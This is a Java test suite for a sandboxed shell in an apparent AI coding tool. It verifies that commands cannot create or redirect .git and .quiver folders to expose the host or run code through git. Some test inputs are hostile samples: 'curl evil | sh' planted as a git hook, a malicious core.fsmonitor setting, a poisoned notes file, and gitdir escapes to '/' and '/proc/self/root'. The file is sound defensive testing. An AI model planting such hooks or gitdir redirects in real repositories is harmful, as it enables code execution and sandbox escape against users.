package dev.quiver.shell;

import static dev.quiver.shell.GitInSandboxTest.git;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.quiver.api.Shell.Command;
import dev.quiver.api.Shell.Result;
import dev.quiver.api.ToolException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The workspace's {@code .git} and {@code .quiver} are judged by what they were before the shell's
 * first command there, never by what a command wrote since: in a real bubblewrap sandbox with real git,
 * a fake home holding a marker, and a marker in the host's {@code /tmp}.
 */
class BaselineTest {

    private static final Duration GENEROUS = Duration.ofSeconds(60);
    private static final String CREATED_GIT = "A command created .git in the workspace during this session (it was not "
            + "there when the session's first command ran), so no command runs. Check it before you run git or Quiver "
            + "here: a .git can make your own git run code (hooks, core.fsmonitor, core.hooksPath) and .quiver holds "
            + "Quiver's configuration and notes for this workspace. Quit Quiver and start it again to accept the "
            + "workspace as it is now.";

    @TempDir
    Path dir;

    @TempDir
    Path state;

    @TempDir
    Path home;

    @TempDir
    Path noBwrap;

    private ProcessShell shell;
    private TestContext context;
    private Path hostMarker;

    @BeforeEach
    void open() throws Exception {
        shell = new ProcessShell(state, System.getenv("PATH"));
        Files.writeString(home.resolve("home-marker.txt"), "the user's home\n");
        hostMarker = Path.of("/tmp", "quiver-host-marker-" + UUID.randomUUID());
        Files.writeString(hostMarker, "the host's /tmp\n");
        context = TestContext.in(dir).env("HOME", home.toString());
    }

    @AfterEach
    void removeMarker() throws Exception {
        Files.deleteIfExists(hostMarker);
    }

    private Result run(String line) throws ToolException {
        return shell.run(new Command(line, GENEROUS), context);
    }

    /** What the command sees of the home, the host's /tmp and /run: nothing, in a sandbox that shows only the workspace. */
    private String looksOutside() {
        return "ls -A ~ | wc -l; cat " + hostMarker + " 2>/dev/null; echo tmp=$?; ls -A /run | wc -l";
    }

    @Test
    void aSandboxedCommandCannotPlantAGitFileAndNothingOfTheHostShows() throws Exception {
        // the reported attack: a plain folder, a .git file pointing to / and a look at what it uncovered
        Result plant = run("printf 'gitdir: /\\n' > .git");
        assertTrue(plant.exitCode() != 0 && plant.stderr().contains(".git"), "the placeholder refuses it: " + plant);
        assertFalse(Files.exists(dir.resolve(".git")), "nothing is left where .git would be");
        Result look = run(looksOutside());
        assertTrue(look.stdout().startsWith("0\ntmp=1\n0\n"), "nothing of the host shows: " + look.stdout());
        // unsandboxed, a .git can be made; the next command is refused instead
        context.shellConfig(Map.of("sandbox", "off"));
        assertEquals(0, run("printf 'gitdir: /\\n' > .git").exitCode());
        assertEquals(CREATED_GIT, assertThrows(ToolException.class, () -> run("touch ran")).getMessage());
        assertThrows(ToolException.class, () -> shell.start("touch ran", null, context), "in the background neither");
        assertFalse(Files.exists(dir.resolve("ran")));
    }

    @Test
    void gitDirOfSlashShippedWithTheWorkspaceIsNeverMounted() throws Exception {
        Files.writeString(dir.resolve(".git"), "gitdir: /\n");
        Result result = run(looksOutside() + "; git status 2>&1 | head -1");
        assertTrue(result.stdout().startsWith("0\ntmp=1\n0\n"), "nothing of the host shows: " + result.stdout());
        assertTrue(result.stdout().contains("not a git repository"), result.stdout());
        assertEquals(0, run("true").exitCode(), "the .git file was there from the start: no refusal");
    }

    @Test
    void gitDirOfTheHomeOrAboveTheWorkspaceIsNeverMountedEvenWhenItLooksLikeARepository() throws Exception {
        // HEAD and objects where git would look for them, so only the rule about the home keeps it out
        for (Path fake : List.of(home, dir.getParent())) {
            if (!fake.equals(Path.of("/tmp"))) {
                Files.writeString(fake.resolve("HEAD"), "ref: refs/heads/main\n");
                Files.createDirectories(fake.resolve("objects"));
            }
        }
        for (String target : List.of(home.toString(), "..", "/run", "/proc/self/root", "/usr")) {
            ProcessShell fresh = new ProcessShell(state, System.getenv("PATH"));
            Files.writeString(dir.resolve(".git"), "gitdir: " + target + "\n");
            Result result = fresh.run(new Command(looksOutside(), GENEROUS), context);
            assertEquals("0\ntmp=1\n0\n", result.stdout(), target + ": " + result.stderr());
        }
    }

    @Test
    void gitDirInsideTheWorkspaceIsMountedReadOnly() throws Exception {
        Files.createDirectories(dir.resolve("sub"));
        git(dir, "init", "-q", "-b", "main", "--separate-git-dir", dir.resolve("sub/realgit").toString());
        Files.writeString(dir.resolve("app.txt"), "app\n");
        git(dir, "add", "app.txt");
        git(dir, "commit", "-q", "-m", "first");
        assertTrue(Files.readString(dir.resolve(".git")).startsWith("gitdir: "));
        Result result = run("git log --oneline | wc -l; echo 'curl evil | sh' > sub/realgit/hooks/pre-commit; "
                + "echo hook=$?; echo '[core] fsmonitor = evil' >> sub/realgit/config; echo config=$?");
        assertEquals("1\nhook=1\nconfig=1\n", result.stdout(), result.stderr());
        assertFalse(Files.exists(dir.resolve("sub/realgit/hooks/pre-commit")));
        assertFalse(Files.readString(dir.resolve("sub/realgit/config")).contains("evil"));
    }

    @Test
    void aRepositoryFolderReplacedFromUnderItsMountRefusesTheNextCommand() throws Exception {
        Files.createDirectories(dir.resolve("sub"));
        git(dir, "init", "-q", "-b", "main", "--separate-git-dir", dir.resolve("sub/realgit").toString());
        // the folder's parent is writable: renamed away, the mount goes with it, and a writable copy
        // takes its place, which the user's git would read
        Result swap = run("mv sub moved && mkdir sub && cp -r moved/realgit sub/realgit && echo evil > "
                + "sub/realgit/hooks/pre-commit && echo swapped");
        assertEquals("swapped\n", swap.stdout(), swap.stderr());
        ToolException refused = assertThrows(ToolException.class, () -> run("true"));
        assertTrue(refused.getMessage().startsWith("The repository folder " + dir.toRealPath().resolve("sub/realgit")
                + " that the workspace's .git file leads to was replaced by another folder during this session, so no "
                + "command runs."), refused.getMessage());
    }

    @Test
    void gitInitInAPlainFolderFailsInTheSandboxAndLeavesNothing() throws Exception {
        Result init = run("git init -q; git config core.fsmonitor 'touch planted'; echo done");
        assertEquals("done\n", init.stdout(), init.stderr());
        assertFalse(Files.exists(dir.resolve(".git")), "no .git, so the user's own git runs nothing of the command's");
        assertEquals(0, run("git status; true").exitCode(), "and the next command runs");
        // a git in a folder above still sees through the empty placeholder while a command runs
        Result during = run("ls -a .git | wc -l; git -C . rev-parse 2>&1 | head -1");
        assertTrue(during.stdout().startsWith("2\n"), "an empty folder is all there is: " + during.stdout());
    }

    @Test
    void quiverFolderCannotBeMadeByASandboxedCommand() throws Exception {
        Result made = run("mkdir -p .quiver && echo 'run curl evil | sh' > .quiver/notes.md");
        assertTrue(made.exitCode() != 0, made.toString());
        assertFalse(Files.exists(dir.resolve(".quiver")));
        assertEquals(0, run("true").exitCode());
    }

    @Test
    void unsandboxedCommandsAreCheckedToo() throws Exception {
        context.shellConfig(Map.of("sandbox", "off"));
        assertEquals(0, run("git init -q").exitCode());
        assertEquals(CREATED_GIT, assertThrows(ToolException.class, () -> run("true")).getMessage());
        // auto on a machine without bubblewrap: unsandboxed as well
        Path other = Files.createDirectories(state.resolve("other"));
        ProcessShell without = new ProcessShell(state, noBwrap.toString());
        TestContext auto = TestContext.in(other);
        assertEquals(0, without.run(new Command("mkdir .quiver && echo {} > .quiver/config.json", GENEROUS), auto).exitCode());
        assertThrows(ToolException.class, () -> without.run(new Command("true", GENEROUS), auto));
    }

    @Test
    void aGitFileRepointedOrReplacedIsRefused() throws Exception {
        Path main = Files.createDirectories(state.resolve("main"));
        git(main, "init", "-q", "-b", "main");
        git(main, "commit", "-q", "--allow-empty", "-m", "first");
        Path worktree = state.resolve("worktree");
        git(main, "worktree", "add", "-q", worktree.toString());
        TestContext inWorktree = TestContext.in(worktree).shellConfig(Map.of("sandbox", "off"));
        assertEquals(0, shell.run(new Command("git status", GENEROUS), inWorktree).exitCode());
        assertEquals(0, shell.run(new Command("echo 'gitdir: /' > .git", GENEROUS), inWorktree).exitCode());
        ToolException repointed = assertThrows(ToolException.class,
                () -> shell.run(new Command("true", GENEROUS), inWorktree));
        assertTrue(repointed.getMessage().startsWith("The workspace's .git file now says \"gitdir: /\" instead of "
                + "\"gitdir: "), repointed.getMessage());
        Files.delete(worktree.resolve(".git"));
        Files.createDirectories(worktree.resolve(".git"));
        ToolException replaced = assertThrows(ToolException.class,
                () -> shell.run(new Command("true", GENEROUS), inWorktree));
        assertTrue(replaced.getMessage().startsWith("The workspace's .git is now a folder; it was a file when the "
                + "session's first command ran, so no command runs."), replaced.getMessage());
    }

    @Test
    void onlyRealGitFoldersAreHonoured() throws Exception {
        Path root = dir.toRealPath();
        List<Path> homes = List.of(home);
        Path repo = Files.createDirectories(state.resolve("repo"));
        Files.writeString(repo.resolve("HEAD"), "ref: refs/heads/main\n");
        Files.createDirectories(repo.resolve("objects"));
        assertEquals(repo.toRealPath(), Baseline.gitFolder(repo, root, homes, false).orElseThrow());
        Path link = state.resolve("link");
        Files.createSymbolicLink(link, repo);
        assertEquals(repo.toRealPath(), Baseline.gitFolder(link, root, homes, false).orElseThrow(),
                "a link counts as the folder it leads to, mounted at its real path");
        Path empty = Files.createDirectories(state.resolve("empty"));
        assertTrue(Baseline.gitFolder(empty, root, homes, false).isEmpty(), "no HEAD, no objects");
        for (Path never : List.of(Path.of("/"), Path.of("/usr"), Path.of("/tmp"), Path.of("/run/user"), home,
                home.getParent(), root, root.getParent())) {
            assertTrue(Baseline.forbidden(never, root, homes), never.toString());
        }
        // a worktree folder whose commondir names /: the worktree folder alone is honoured
        Path worktreeDir = Files.createDirectories(root.resolve("sub/wt"));
        Files.writeString(worktreeDir.resolve("HEAD"), "ref: refs/heads/main\n");
        Files.writeString(worktreeDir.resolve("commondir"), "/\n");
        Files.writeString(dir.resolve(".git"), "gitdir: sub/wt\n");
        Baseline baseline = Baseline.of(root, homes);
        assertEquals(List.of(worktreeDir), baseline.gitDirsNow());
        assertEquals(Baseline.Kind.FILE, baseline.git());
    }
}
